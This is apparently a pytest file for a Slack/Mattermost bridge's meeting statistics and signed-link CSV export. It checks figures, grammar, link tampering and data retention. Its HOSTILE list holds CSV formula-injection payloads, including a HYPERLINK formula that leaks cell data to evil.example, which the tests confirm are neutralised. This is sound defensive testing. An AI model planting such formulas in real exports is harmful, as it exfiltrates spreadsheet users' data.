"""``/whereby stats`` and ``/whereby export``: a channel's meetings as figures worked out by hand, and as a CSV file
behind a signed link that expires.

A channel is seeded through the store the way the worker writes it (rooms claimed and completed, sessions started
and saved with their room, rooms deleted when their time is over), at known times; the commands run through the
routes with their clocks set, the CSV through ``GET /chat/export``.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from urllib.parse import parse_qsl, urlencode, urlsplit

import boto3
import pytest

from bridge.chat.grammar import ExportMeetings, Invalid, Limits, ShowStats, StartRoom, parse
from bridge.core.http_api import ApiRequest
from bridge.store.meetings import Person, Room, SessionRecord
from devstack.lambda_events import http_api_event
from devstack.slack_sim import signed
from devstack.template import load_template
from tests.unit.test_layer_shape import loaded_by
from tests.unit.test_mattermost_command import run_at
from tests.unit.test_mattermost_live_posts import CHANNEL, TEAM, gateway, whereby  # noqa: F401  (a fixture)
from tests.unit.test_slack_command import SAMPLE_SECRET, SAMPLE_TEAM, form
from tests.unit.test_whereby_events import HELD_AT, a_meeting

ZWJ = "\u200d"
DAY = 24 * 3600
OWNER = f"CHANNEL#{TEAM}#{CHANNEL}"
SLACK_CHANNEL = "C07RM8K2H1Q"  # the Slack form's channel
SLACK_OWNER = f"CHANNEL#{SAMPLE_TEAM}#{SLACK_CHANNEL}"
ALICE, BOB, CAROL = "a1ice000000000000000000000", "b0b00000000000000000000000", "car01000000000000000000000"
DAVE, ERIN, FRANK = "dave0000000000000000000000", "erin0000000000000000000000", "frank000000000000000000000"


def at(text: str) -> int:
    return int(datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC).timestamp())


NOW = at("2025-03-05 12:00:00")  # a Wednesday


# seeding ---------------------------------------------------------------------------------------------------------
def store():
    from bridge import runtime

    return runtime.store()


def seed(
    label: str,
    creator: str,
    name: str,
    made: str | int,
    sessions: tuple[tuple[str, str], ...] = (),
    *,
    owner: str = OWNER,
    minutes: int = 60,
    people: tuple[str, ...] = ("Ana", "Client"),
    joined: bool = False,
    now: int = NOW,
) -> Room:
    """A room made at ``made`` with its sessions (start, end), written as the command and the worker write them."""
    meetings = store()
    created = at(made) if isinstance(made, str) else made
    source = "slack" if owner.startswith(f"CHANNEL#{SAMPLE_TEAM}#") else "mattermost"
    room = Room(
        room_key=meetings.new_room_key(),
        source=source,
        owner=owner,
        end_at=created + minutes * 60,
        created_at=created,
        creator=creator,
        creator_name=name,
        label=label,
    )
    meetings.claim_room(room)
    room = meetings.complete_room(
        replace(
            room,
            meeting_id=f"m{room.room_key}",
            room_url=f"https://example.whereby.com/{room.room_key}",
            host_room_url=f"https://example.whereby.com/{room.room_key}?roomKey=h",
            room_name=f"/{room.room_key}",
        )
    )
    for index, (start, end) in enumerate(sessions):
        session_id = f"s{index}-{room.room_key}"
        meetings.session_started(room.room_key, session_id, at(start), at(start), room)
        record = SessionRecord(
            room_key=room.room_key,
            room_session_id=session_id,
            started_at=at(start),
            ended_at=at(end),
            participant_minutes=2 * (at(end) - at(start)) // 60,
            people=tuple(Person(person, "host" if i == 0 else "visitor") for i, person in enumerate(people)),
            summarised=True,
        )
        meetings.save_session(record, at(end), room)
    if joined:
        meetings.note_activity(room.room_key, created + 60)
    if room.end_at <= now:
        meetings.mark_deleted(room.room_key, room.end_at)  # the sweeper, once its time is over
    return room


def seed_the_channel() -> None:
    """Six meetings in the last 30 days, by hand: 45 + 30 + 4 + 20 + 20 + 76 = 195 minutes."""
    seed("Sprint review", ALICE, "alice", "2025-02-04 10:00:00", (("2025-02-04 10:02:00", "2025-02-04 10:47:00"),))
    # 29 min 40 s: 30 to the nearest minute
    seed("Planning", ALICE, "alice", "2025-02-12 09:00:00", (("2025-02-12 09:00:20", "2025-02-12 09:30:00"),))
    seed("Quick sync", FRANK, "frank", "2025-02-19 14:00:00", (("2025-02-19 14:00:00", "2025-02-19 14:04:00"),))
    seed(
        "1:1",
        BOB,
        "bob",
        "2025-02-26 15:00:00",
        (("2025-02-26 15:00:00", "2025-02-26 15:20:00"), ("2025-02-26 15:40:00", "2025-02-26 16:00:00")),
        minutes=90,
    )
    seed("Demo", CAROL, "carol", "2025-03-03 08:00:00", (("2025-03-03 08:00:00", "2025-03-03 09:16:00"),), minutes=120)
    seed("Ghost", DAVE, "dave", "2025-02-20 11:00:00")  # nobody came: the one no-show
    seed("Open now", DAVE, "dave", NOW - 600)  # nobody yet, but its time is not over
    seed("Lost events", ERIN, "erin", "2025-02-18 10:00:00", joined=True)  # someone joined; the session went unrecorded
    never_made = Room(store().new_room_key(), "mattermost", OWNER, at("2025-02-21 11:00:00"), at("2025-02-21 10:00:00"))
    store().claim_room(never_made)  # Whereby refused: released, never a room, never a no-show
    store().mark_deleted(never_made.room_key, at("2025-02-21 10:00:01"))
    # Out of the period, or of the channel:
    seed("Old", ALICE, "alice", "2025-01-20 10:00:00", (("2025-01-20 10:00:00", "2025-01-20 11:00:00"),))
    seed("Old ghost", DAVE, "dave", "2025-01-25 10:00:00")
    other = f"CHANNEL#{TEAM}#0therchanne100000000000000"
    seed("Elsewhere", BOB, "bob", "2025-02-27 10:00:00", (("2025-02-27 10:00:00", "2025-02-27 10:30:00"),), owner=other)


def chart(*rows: tuple[str, str, int]) -> str:
    return "```\n" + "\n".join(f"{week} {bar:<20} {n}" for week, bar, n in rows) + "\n```"


FULL, HALF = "█" * 20, "█" * 10


# the statistics ----------------------------------------------------------------------------------------------------
def test_the_stats_of_a_seeded_channel_are_the_figures_worked_out_by_hand(stack):
    seed_the_channel()
    answer = run_at(NOW, "stats")
    assert answer["response_type"] == "ephemeral"
    assert answer["text"] == "\n".join(
        [
            "**Whereby meetings in this channel, last 30 days** (2025-02-03 to 2025-03-05, UTC)",
            "- 6 meetings, 3 h 15 min in all, 33 min on average",  # 195 / 6 = 32.5, half up
            "- 1 no-show (rooms nobody joined)",
            f"- Busiest hosts: @{ZWJ}alice (2 meetings), @{ZWJ}bob (2 meetings), @{ZWJ}carol (1 meeting)",
            "Meetings per week (weeks from Monday, UTC):",
            chart(
                ("2025-02-03", HALF, 1),
                ("2025-02-10", HALF, 1),
                ("2025-02-17", HALF, 1),
                ("2025-02-24", FULL, 2),
                ("2025-03-03", HALF, 1),
            ),
        ]
    )


def test_the_last_7_days_count_only_the_meetings_that_began_in_them(stack):
    seed_the_channel()
    answer = run_at(NOW, "stats 7D")
    # Since Wed 26 Feb 12:00: the two 1:1s (20 + 20) and the demo (76); 116 / 3 = 38.7
    assert answer["text"] == "\n".join(
        [
            "**Whereby meetings in this channel, last 7 days** (2025-02-26 to 2025-03-05, UTC)",
            "- 3 meetings, 1 h 56 min in all, 39 min on average",
            "- 0 no-shows (rooms nobody joined)",
            f"- Busiest hosts: @{ZWJ}bob (2 meetings), @{ZWJ}carol (1 meeting)",
            "Meetings per week (weeks from Monday, UTC):",
            chart(("2025-02-24", FULL, 2), ("2025-03-03", HALF, 1)),
        ]
    )


def test_a_channel_with_no_meetings_is_told_so(stack):
    seed("Elsewhere", BOB, "bob", "2025-02-27 10:00:00", (("2025-02-27 10:00:00", "2025-02-27 10:30:00"),), owner="X")
    answer = run_at(NOW, "stats 90d")
    assert answer["text"] == (
        "**Whereby meetings in this channel, last 90 days** (2024-12-05 to 2025-03-05, UTC)\n"
        "No meeting was held in this channel in that time."
    )


def test_listing_the_open_rooms_takes_rooms_only_though_the_index_holds_the_sessions_too(stack):
    seed_the_channel()
    answer = run_at(NOW, "list")
    assert answer["text"].count("\n- ") == 1 and "**Open now**" in answer["text"]


def test_slack_answers_stats_in_the_route_naming_hosts_by_their_slack_ids_and_queues_nothing(stack, slack_sim):
    from bridge import runtime
    from bridge.chat import slack
    from bridge.chat.rooms import ShelfPorts
    from bridge.store.credentials import slack_team_secrets

    seed("Kick-off", "U0ALICE0001", "alice", "2025-03-03 09:00:00", (("2025-03-03 09:00:00", "2025-03-03 09:50:00"),),
         owner=SLACK_OWNER)  # fmt: skip
    seed("Retro", "U0BOB000001", "bob", "2025-03-04 09:00:00", (("2025-03-04 09:00:00", "2025-03-04 09:25:00"),),
         owner=SLACK_OWNER)  # fmt: skip
    seed("Nobody", "U0BOB000001", "bob", "2025-03-04 11:00:00", owner=SLACK_OWNER)
    body = form("stats 7d", slack_sim.new_response_url())
    secrets = lambda fresh: slack_team_secrets(runtime.settings(), force_fetch=fresh)  # noqa: E731
    route = replace(
        runtime.slack(),
        gate=slack.SignatureGate(secrets, clock=lambda: NOW),
        shelf=lambda: ShelfPorts(store=runtime.store(), clock=lambda: NOW),
    )
    headers = {"Content-Type": "application/x-www-form-urlencoded", **signed(body, SAMPLE_SECRET, NOW)}
    response = slack.answer(ApiRequest.of(http_api_event("POST", "/slack/command", headers=headers, body=body)), route)
    answer = json.loads(response["body"])
    assert answer == {
        "response_type": "ephemeral",
        "text": "\n".join(
            [
                "*Whereby meetings in this channel, last 7 days* (2025-02-26 to 2025-03-05, UTC)",
                "- 2 meetings, 1 h 15 min in all, 38 min on average",  # 75 / 2 = 37.5, half up
                "- 1 no-show (rooms nobody joined)",
                "- Busiest hosts: <@U0ALICE0001> (1 meeting), <@U0BOB000001> (1 meeting)",  # alice: more minutes
                "Meetings per week (weeks from Monday, UTC):",
                chart(("2025-02-24", "", 0), ("2025-03-03", FULL, 2)),
            ]
        ),
    }
    assert stack.queue_depth("JobsQueue") == 0


def test_a_meeting_the_worker_recorded_from_whereby_events_is_counted_and_exported(stack, whereby_sim, gateway):  # noqa: F811
    whereby(stack, "Standup 30m")
    a_meeting(whereby_sim, whereby_sim.meetings()[0]["roomName"].lstrip("/"))
    assert stack.drain().failed == 0
    later = HELD_AT + DAY
    text = run_at(later, "stats 7d")["text"]
    assert "- 1 meeting, 35 min in all, 35 min on average" in text
    assert f"- Busiest hosts: @{ZWJ}alan (1 meeting)" in text  # the sample's caller, by the name Mattermost gave
    rows = read_csv(fetch(link_in(run_at(later, "export 7d")["text"]), later + 5))
    assert rows == [
        list(CSV_HEADER),
        ["2026-01-04T13:22:00Z", "2026-01-04T13:57:00Z", "35", "Standup", "alan", "Ana; Client"],
    ]


# the grammar -----------------------------------------------------------------------------------------------------
LIMITS = Limits(60, 480)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("stats", ShowStats(30)),
        ("STATS 7d", ShowStats(7)),
        ("stats 90D", ShowStats(90)),
        ("export", ExportMeetings(30)),
        ("export 7d", ExportMeetings(7)),
        ("start stats review", StartRoom("stats review", 60, slug_source="stats review")),
        ("start export plans 30m", StartRoom("export plans", 30, slug_source="export plans")),
    ],
)
def test_stats_and_export_take_one_period_and_start_takes_a_topic_beginning_with_them(text, command):
    assert parse(text, LIMITS) == command


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("stats 14d", "“14d” is not a period `/whereby stats` knows: give 7d, 30d or 90d (default 30d)."),
        ("export weekly", "“weekly” is not a period `/whereby export` knows: give 7d, 30d or 90d (default 30d)."),
        ("stats of the week", "`/whereby stats` takes one period: 7d, 30d or 90d."),
        ("export 7d now", "`/whereby export` takes one period: 7d, 30d or 90d."),
    ],
)
def test_a_period_that_is_not_offered_gets_a_clear_sentence_and_the_start_hint(text, problem):
    command = parse(text, LIMITS)
    assert isinstance(command, Invalid)
    word = text.split()[0]
    assert command.problem.startswith(problem)
    assert command.problem.endswith(
        f"To start a room whose topic begins with “{word}”, type `/whereby start {word} …`."
    )


def test_a_bad_period_changes_nothing_and_says_how_to_use_the_command(stack):
    answer = run_at(NOW, "stats 1y")
    assert answer["response_type"] == "ephemeral"
    assert answer["text"].endswith("Nothing was changed; `/weather help` shows how to use it.")
    help_text = run_at(NOW, "help")["text"]
    assert "`/weather stats [7d|30d|90d]`" in help_text and "`/weather export [7d|30d|90d]`" in help_text


# the export ------------------------------------------------------------------------------------------------------
CSV_HEADER = ("start", "end", "minutes", "topic", "creator", "people")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    'Budget, "final" version',
    "Line one\nLine two",
    "Plain topic",
]


def link_in(text: str) -> str:
    [url] = re.findall(r"\]\((\S+?/chat/export\?\S+?)\)", text)
    return url


def fetch(url: str, now: float, query: str | None = None) -> dict:
    """``GET /chat/export`` with the route's clock set to ``now``."""
    from bridge import runtime
    from bridge.chat import export

    event = http_api_event("GET", "/chat/export", query=urlsplit(url).query if query is None else query)
    return export.answer(ApiRequest.of(event), replace(runtime.chat_export(), clock=lambda: now))


def read_csv(response: dict) -> list[list[str]]:
    assert response["statusCode"] == 200
    assert response["headers"]["Content-Type"] == "text/csv; charset=utf-8"
    assert response["headers"]["Content-Disposition"].startswith('attachment; filename="whereby-meetings-')
    assert response["headers"]["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response["body"], newline="")))


def test_the_export_is_an_ephemeral_link_to_a_csv_of_the_channels_meetings_of_the_period(stack):
    seed_the_channel()
    answer = run_at(NOW, "export")
    assert answer["response_type"] == "ephemeral"
    assert "The link works for 15 minutes, until 12:15 UTC." in answer["text"]
    rows = read_csv(fetch(link_in(answer["text"]), NOW + 60))
    assert rows == [
        list(CSV_HEADER),
        ["2025-02-04T10:02:00Z", "2025-02-04T10:47:00Z", "45", "Sprint review", "alice", "Ana; Client"],
        ["2025-02-12T09:00:20Z", "2025-02-12T09:30:00Z", "30", "Planning", "alice", "Ana; Client"],
        ["2025-02-19T14:00:00Z", "2025-02-19T14:04:00Z", "4", "Quick sync", "frank", "Ana; Client"],
        ["2025-02-26T15:00:00Z", "2025-02-26T15:20:00Z", "20", "1:1", "bob", "Ana; Client"],
        ["2025-02-26T15:40:00Z", "2025-02-26T16:00:00Z", "20", "1:1", "bob", "Ana; Client"],
        ["2025-03-03T08:00:00Z", "2025-03-03T09:16:00Z", "76", "Demo", "carol", "Ana; Client"],
    ]


def test_hostile_topics_and_names_come_back_as_text_a_spreadsheet_never_runs(stack):
    for n, topic in enumerate(HOSTILE):
        start = f"2025-03-0{1 + n % 4} 1{n}:00:00"
        seed(topic, ALICE, "alice", start, ((start, f"2025-03-0{1 + n % 4} 1{n}:30:00"),), people=("-Mallory", "=1+1"))
    rows = read_csv(fetch(link_in(run_at(NOW, "export 7d")["text"]), NOW + 1))
    assert rows[0] == list(CSV_HEADER)
    topics = sorted(row[3] for row in rows[1:])
    expected = ["'" + t if t[0] in "=+-@\t\r" else t for t in HOSTILE]
    assert topics == sorted(expected)
    assert {row[5] for row in rows[1:]} == {"'-Mallory; =1+1"}  # the cell begins with "-": one quote before it all
    for row in rows[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_an_export_link_works_until_it_expires_and_then_gets_403(stack):
    seed_the_channel()
    url = link_in(run_at(NOW, "export 30d")["text"])
    assert fetch(url, NOW + 15 * 60 - 1)["statusCode"] == 200
    for late in (NOW + 15 * 60, NOW + DAY):
        response = fetch(url, late)
        assert response["statusCode"] == 403
        assert json.loads(response["body"]) == {
            "error": "this export link has expired; ask for a new one with /whereby export"
        }


def _changed(params: dict[str, str], name: str, value: str | None) -> str:
    changed = {k: v for k, v in params.items() if k != name}
    if value is not None:
        changed[name] = value
    return urlencode(changed)


TAMPERINGS = {
    "another team": ("team", lambda v: "wx4zz8t4ttgmtxqiwfohijayzd"),
    "another channel": ("channel", lambda v: "0therchanne100000000000000"),
    "a longer period": ("days", lambda v: "90"),
    "a period not offered": ("days", lambda v: "365"),
    "a later expiry": ("expires", lambda v: str(int(v) + 3600)),
    "an earlier expiry": ("expires", lambda v: str(int(v) - 1)),
    "an expiry that is no number": ("expires", lambda v: "soon"),
    "one character of the signature": ("sig", lambda v: ("0" if v[0] != "0" else "1") + v[1:]),
    "the signature cut": ("sig", lambda v: v[:-1]),
    "the signature in capitals": ("sig", lambda v: v.upper()),
    "a second signature (API Gateway joins them)": ("sig", lambda v: v + ",x"),
    "no signature": ("sig", lambda v: None),
    "no team": ("team", lambda v: None),
}


def test_a_link_with_any_part_changed_cut_or_missing_gets_403_never_the_file(stack):
    url = link_in(run_at(NOW, "export")["text"])
    params = dict(parse_qsl(urlsplit(url).query))
    assert fetch(url, NOW + 1)["statusCode"] == 200  # as given, it works
    for case, (name, change) in TAMPERINGS.items():
        response = fetch(url, NOW + 1, query=_changed(params, name, change(params[name])))
        assert response["statusCode"] == 403, case
        assert json.loads(response["body"]) == {
            "error": "this export link is not valid; ask for a new one with /whereby export"
        }, case


def test_an_empty_or_garbage_query_gets_403(stack):
    for query in ("", "x=1", "team=a&channel=b&days=30&expires=1&sig=" + "g" * 64, "%ff%fe=%00"):
        assert fetch("", NOW, query=query)["statusCode"] == 403


def test_the_link_is_never_logged_and_the_route_is_in_the_template(stack, log_lines):
    import time

    seed("Now", ALICE, "alice", int(time.time()) - 3600, ((_iso(time.time() - 3000), _iso(time.time() - 2000)),),
         now=int(time.time()))  # fmt: skip
    url = link_in(run_at(time.time(), "export 7d")["text"])
    signature = dict(parse_qsl(urlsplit(url).query))["sig"]
    response = stack.request("GET", "/chat/export", query=urlsplit(url).query)  # the template's route, real clock
    assert len(read_csv(response)) == 2
    tampered = urlsplit(url).query.replace(signature, signature[::-1])
    assert stack.request("GET", "/chat/export", query=tampered)["statusCode"] == 403
    assert not any(signature in line or signature[::-1] in line for line in log_lines())


def _iso(timestamp: float) -> str:
    return datetime.fromtimestamp(int(timestamp), UTC).strftime("%Y-%m-%d %H:%M:%S")


def test_slack_gives_the_export_link_through_the_worker_to_the_caller_alone(stack, slack_sim):
    import time

    from tests.unit.test_slack_command import send

    now = int(time.time())
    seed("Kick-off", "U0ALICE0001", "alice", now - 7200, ((_iso(now - 7000), _iso(now - 4000)),), owner=SLACK_OWNER,
         now=now)  # fmt: skip
    url = slack_sim.new_response_url()
    assert send(stack, form("export 7d", url)) == {
        "status": 200,
        "response_type": "ephemeral",
        "text": "Making your export link…",
    }
    assert stack.drain().failed == 0
    [post] = slack_sim.posts(url)
    assert post["response_type"] == "ephemeral"
    [link] = re.findall(r"<(\S+?/chat/export\?\S+?)\|Download the CSV>", post["text"])
    rows = read_csv(stack.request("GET", "/chat/export", query=urlsplit(link).query))
    assert [row[3:5] for row in rows] == [["topic", "creator"], ["Kick-off", "alice"]]


# retention -------------------------------------------------------------------------------------------------------
def test_sessions_and_chat_rooms_are_kept_the_configured_days_and_stats_say_so(stack, monkeypatch):
    from bridge import runtime

    monkeypatch.setenv("SESSION_RETENTION_DAYS", "60")
    runtime.reset()
    room = seed(
        "Sprint review", ALICE, "alice", "2025-02-04 10:00:00", (("2025-02-04 10:02:00", "2025-02-04 10:47:00"),)
    )
    table = boto3.resource("dynamodb", region_name="eu-west-1").Table(stack.stack.refs["MeetingsTable"])
    pk = f"ROOM#{room.room_key}"
    [session] = [item for item in table.scan()["Items"] if item["pk"] == pk and item["sk"].startswith("SESSION#")]
    assert session["purge_at"] == at("2025-02-04 10:47:00") + 60 * DAY
    record = table.get_item(Key={"pk": pk, "sk": "ROOM"})["Item"]
    assert record["state"] == "deleted" and record["purge_at"] == room.created_at + 60 * DAY  # for its no-shows
    deal_room = Room(store().new_room_key(), "kommo", "LEAD#acme#1", NOW, NOW - 3600)
    store().claim_room(deal_room)
    store().mark_deleted(deal_room.room_key, NOW)
    deal_record = table.get_item(Key={"pk": f"ROOM#{deal_room.room_key}", "sk": "ROOM"})["Item"]
    assert deal_record["purge_at"] == NOW + 30 * DAY  # other rooms: 30 days after their deletion, as before
    assert "Meetings are kept 60 days, so older ones are not counted." in run_at(NOW, "stats 90d")["text"]


def test_the_retention_is_a_template_parameter_of_90_days_given_to_every_function():
    template = load_template()
    parameter = template["Parameters"]["SessionRetentionDays"]
    assert parameter["Default"] == 90 and parameter["MinValue"] == 1
    assert "90d" in parameter["Description"] and "personal data" in parameter["Description"]
    variables = template["Globals"]["Function"]["Environment"]["Variables"]
    assert variables["SESSION_RETENTION_DAYS"] == {"Ref": "SessionRetentionDays"}


def test_the_export_route_loads_no_http_client_no_whereby_client_and_no_kommo_wing():
    loaded = loaded_by("chat_export")
    assert "bridge.chat.export" in loaded
    assert {"requests", "bridge.whereby.client", "bridge.chat.mattermost", "bridge.chat.slack"} & loaded == set()
    assert {m for m in loaded if m.startswith("bridge.kommo")} == set()


def test_the_export_route_may_only_query_the_channel_index_and_read_the_link_key():
    spec = load_template()["Resources"]["ChatExportFunction"]
    statements = [s for p in spec["Properties"]["Policies"] if isinstance(p, dict) for s in p.get("Statement", [])]
    assert statements == [
        {
            "Effect": "Allow",
            "Action": "dynamodb:Query",
            "Resource": {"Fn::Sub": "${MeetingsTable.Arn}/index/by_owner"},
        }
    ]
    assert spec["Properties"]["Events"]["Export"]["Properties"]["Method"] == "GET"
    assert spec["Properties"]["Events"]["Export"]["Properties"]["Path"] == "/chat/export"
